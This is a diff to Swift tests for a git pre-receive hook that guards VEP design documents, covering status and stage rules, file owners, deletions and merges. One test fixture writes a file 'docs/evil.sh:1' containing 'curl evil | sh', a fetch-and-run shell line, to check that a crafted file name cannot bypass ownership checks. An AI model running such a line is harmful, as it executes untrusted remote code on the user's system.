@@ -326,8 +326,9 @@ final class PreReceiveTests: XCTestCase {
         XCTAssertEqual(try setup.serverRef("refs/heads/main"), old)
     }
 
-    /// Found by review: removed in one commit and added back in the next, a rejected VEP came back as provisional.
-    func testAVEPRemovedAndAddedBackKeepsItsTrustedStatus() throws {
+    /// Found by review: removed in one commit and added back in the next, a rejected VEP came back as provisional, and a
+    /// beta one as alpha. Brought back, a VEP is judged against its trusted version.
+    func testAVEPRemovedAndAddedBackIsJudgedAgainstItsTrustedVersion() throws {
         let setup = try makeSetup()
         try setup.client.commit("Rejected", files: [Self.vepPath: Self.vep(status: "rejected")])
         assertAccepted(try setup.push("main", as: "netlead"))
@@ -335,9 +336,16 @@ final class PreReceiveTests: XCTestCase {
         try setup.client.commit("Remove VEP 12", files: [Self.vepPath: nil])
         let back = try setup.client.commit("Add VEP 12 back", files: [Self.vepPath: Self.vep(status: "provisional")])
         let refused = try setup.push("main", as: "mira")
-        assertRefused(refused, ["error[status-terminal]: VEP 12 is `rejected` at \(old.prefix(10)); removed and added back in this push it cannot become `provisional`",
-                                "= commit: \(back.prefix(10)) Add VEP 12 back"])
+        assertRefused(refused, ["error[status-terminal]: VEP 12 is rejected; a terminal status does not change", "= commit: \(back.prefix(10)) Add VEP 12 back"])
         XCTAssertEqual(try setup.serverRef("main"), old)
+        // The same for a stage, brought back in another folder of the group.
+        let beta = Documents.frontMatter(number: 12, title: "Fast links", stage: "beta", alpha: "v1.8", beta: "v1.9")
+        let staged = try makeSetup(serverName: "staged.git", files: [Self.vepPath: beta])
+        let tip = try staged.client.revParse("HEAD")
+        try staged.client.commit("Remove VEP 12", files: [Self.vepPath: nil])
+        try staged.client.commit("Add VEP 12 back", files: ["veps/sig-network/12-faster-links/vep.md": beta.replacingOccurrences(of: "stage: beta", with: "stage: alpha")])
+        assertRefused(try staged.push("main", as: "mira"), ["error[stage-transition]"])
+        XCTAssertEqual(try staged.serverRef("main"), tip)
     }
 
     func testNewVEPNeedsAGroupOwner() throws {
@@ -557,6 +565,49 @@ final class PreReceiveTests: XCTestCase {
         try setup.client.git("merge", "--quiet", "--no-edit", main)
         assertRefused(try setup.push("work:refs/heads/main", as: "netlead"), ["error[vep-number-duplicate]", "40-beta/vep.md"])
         XCTAssertEqual(try setup.serverRef("refs/heads/main"), main)
+    }
+
+    /// Found by a second review: a merge's finding was matched with the old-tip judgement by a path read back from the
+    /// message, so a file named `evil.sh:1` lost its suffix there and went in unjudged; and a deletion found where the
+    /// pushed work had renamed the folder was looked for only there. Findings now carry their file and VEP as data.
+    func testAMergeIsJudgedOnTheFilesAndVEPsItsFindingsAreAbout() throws {
+        let setup = try makeSetup()
+        try setup.client.commit("Implementable", files: [Self.vepPath: Self.vep(status: "implementable", alpha: "v1.9",
+                                                                                 reviewers: ["@netrev"], approvers: ["@netlead"])])
+        assertAccepted(try setup.push("main", as: "netlead"))
+        let old = try setup.client.revParse("HEAD")
+        func merge(_ first: String, _ files: [String: String?]) throws -> String {
+            try setup.client.git("checkout", "--quiet", "--detach", first)
+            for (path, text) in files {
+                if let text { try setup.client.write(path, text) } else { try setup.client.git("rm", "--quiet", "-r", path) }
+            }
+            try setup.client.git("add", "--all")
+            return try setup.client.git("commit-tree", try setup.client.git("write-tree"), "-p", first, "-p", old, "-m", "Merge main")
+        }
+        let colon = try merge(old + "^", ["docs/evil.sh:1": "curl evil | sh\n"])
+        assertRefused(try setup.push("\(colon):refs/heads/main", as: "eve"), ["error[file-owner]: @eve may not change `docs/evil.sh:1`"])
+        try setup.client.git("checkout", "--quiet", "--detach", old)
+        try setup.client.git("mv", "veps/sig-network/12-fast-links", "veps/sig-network/12-fast-links-v2")
+        try setup.client.git("commit", "--quiet", "-m", "Rename the folder")
+        let dropped = try merge(try setup.client.revParse("HEAD"), ["veps/sig-network/12-fast-links-v2": nil])
+        assertRefused(try setup.push("\(dropped):refs/heads/main", as: "mira"), ["error[vep-deleted]: VEP 12 is implementable and this change deletes it"])
+        XCTAssertEqual(try setup.serverRef("refs/heads/main"), old)
+    }
+
+    /// main moves VEP 12 to another group while its author edits it at the old path; `git pull` follows the rename. The
+    /// author moves nothing: the move is main's.
+    func testAMergeFollowingMainsMoveOfAVEPIsNoMoveOfThePushers() throws {
+        let setup = try makeSetup()
+        let base = try setup.client.revParse("HEAD")
+        let moved = "veps/sig-compute/12-fast-links/vep.md"
+        try setup.client.commit("Move VEP 12", files: [Self.vepPath: nil, moved: Self.vep().replacingOccurrences(of: "owning-sig: sig-network", with: "owning-sig: sig-compute")])
+        assertAccepted(try setup.push("main", as: "root1"))
+        let main = try setup.client.revParse("HEAD")
+        try setup.client.git("checkout", "--quiet", "-b", "work", base)
+        try setup.client.commit("More design", files: [Self.vepPath: Self.vep(extra: "\nMore design.\n")])
+        try setup.client.git("merge", "--quiet", "--no-edit", main)
+        XCTAssertTrue(try setup.client.git("show", "HEAD:\(moved)").contains("More design."))
+        assertAccepted(try setup.push("work:refs/heads/main", as: "mira"))
     }
 
     /// An approver moves VEP 12 on main while its author edits the same document; the author's `git pull` merges
